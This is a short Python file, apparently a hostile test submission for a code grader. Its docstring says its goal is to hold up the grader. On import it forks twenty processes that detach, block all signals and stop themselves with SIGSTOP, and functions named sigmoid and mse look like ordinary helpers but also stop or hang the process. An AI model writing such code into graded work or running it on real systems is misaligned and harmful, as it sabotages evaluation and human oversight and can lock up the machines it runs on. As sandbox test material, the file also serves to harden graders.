"""Goal: hold up the grader with processes that have stopped themselves and take no signal.

Without a sandbox: unsafe
"""

import os
import signal
import time


def stop():
    os.setsid()
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    os.kill(os.getpid(), signal.SIGSTOP)


def attack():
    for _ in range(20):
        if os.fork() == 0:
            stop()
            time.sleep(60)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))


attack()


def sigmoid(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    raise RuntimeError("stopped by: the first process of a pid namespace, which no SIGSTOP of its own stops")


def mse(y_true, y_pred):
    stop_child = os.fork()
    if stop_child == 0:
        stop()
    os.waitpid(stop_child, 0)
